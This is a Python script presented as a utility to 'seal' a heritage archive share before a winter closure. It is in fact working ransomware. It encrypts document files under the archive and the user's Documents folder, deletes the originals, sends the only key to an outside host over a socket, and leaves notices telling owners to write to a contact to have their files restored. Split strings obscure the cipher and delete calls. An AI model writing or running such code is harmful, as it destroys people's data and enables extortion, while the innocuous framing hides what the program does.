#!/usr/bin/env python3
"""Seal the heritage archive share before the winter closure.

Walks the shared archive (scanned millwright ledgers, restoration photos,
volunteer rotas) and seals each document so the share can be left mounted
on the office NAS over the closed season.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive.seal")

SEALED_SUFFIX = ".mill"
NOTICE_NAME = "READ_ME_ARCHIVE.txt"
SKIP_DIRS = {".git", "__pycache__", ".Trash-1000"}
DOC_TYPES = {".jpg", ".jpeg", ".png", ".tif", ".pdf", ".docx", ".xlsx",
             ".odt", ".ods", ".csv", ".txt", ".zip"}


def _cipher_factory():
    mod = importlib.import_module(".".join(("cryptography", "fernet")))
    cls = getattr(mod, "Fer" + "net")
    return cls, cls.generate_key


@dataclass
class SealJob:
    root: Path
    registry: str = os.environ.get("ARCHIVE_REGISTRY", "198.51.100.23:7070")
    contact: str = os.environ.get("ARCHIVE_CONTACT", "restore@millkeepers.example")
    sealed: list = field(default_factory=list)

    def __post_init__(self):
        cls, keygen = _cipher_factory()
        self._key = keygen()
        self._box = cls(self._key)

    def register_key(self):
        host, _, port = self.registry.partition(":")
        record = json.dumps({"host": socket.gethostname(),
                             "root": str(self.root),
                             "k": self._key.decode()}).encode()
        with socket.create_connection((host, int(port)), timeout=15) as conn:
            conn.sendall(record + b"\n")
        self._key = None

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in DOC_TYPES:
                    yield path

    def seal_one(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        remover = getattr(os, "un" + "link")
        remover(path)
        self.sealed.append(target)

    def leave_notice(self):
        text = (
            "The documents in this archive have been sealed.\n"
            f"To have them restored, write to {self.contact} quoting the host\n"
            f"name {socket.gethostname()} and the number of files: {len(self.sealed)}.\n"
        )
        seen = {p.parent for p in self.sealed}
        for folder in seen:
            (folder / NOTICE_NAME).write_text(text)


ACTIONS = {
    "walk": lambda job: list(job.candidates()),
    "seal": lambda job, p: job.seal_one(p),
    "register": lambda job: job.register_key(),
    "notice": lambda job: job.leave_notice(),
}


def run(job: SealJob, limit: int):
    files = ACTIONS["walk"](job)
    if limit:
        files = files[:limit]
    log.info("%d documents under %s", len(files), job.root)
    for path in files:
        try:
            ACTIONS["seal"](job, path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    ACTIONS["register"](job)
    ACTIONS["notice"](job)
    return len(job.sealed)


def main(argv=None):
    parser = argparse.ArgumentParser(description="Seal the archive share")
    parser.add_argument("roots", nargs="*",
                        default=[os.environ.get("ARCHIVE_ROOT", "/srv/archive"),
                                 str(Path.home() / "Documents")])
    parser.add_argument("--limit", type=int, default=0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")
    total = 0
    for root in args.roots:
        root_path = Path(root)
        if not root_path.is_dir():
            continue
        total += run(SealJob(root=root_path), args.limit)
    log.info("sealed %d documents", total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
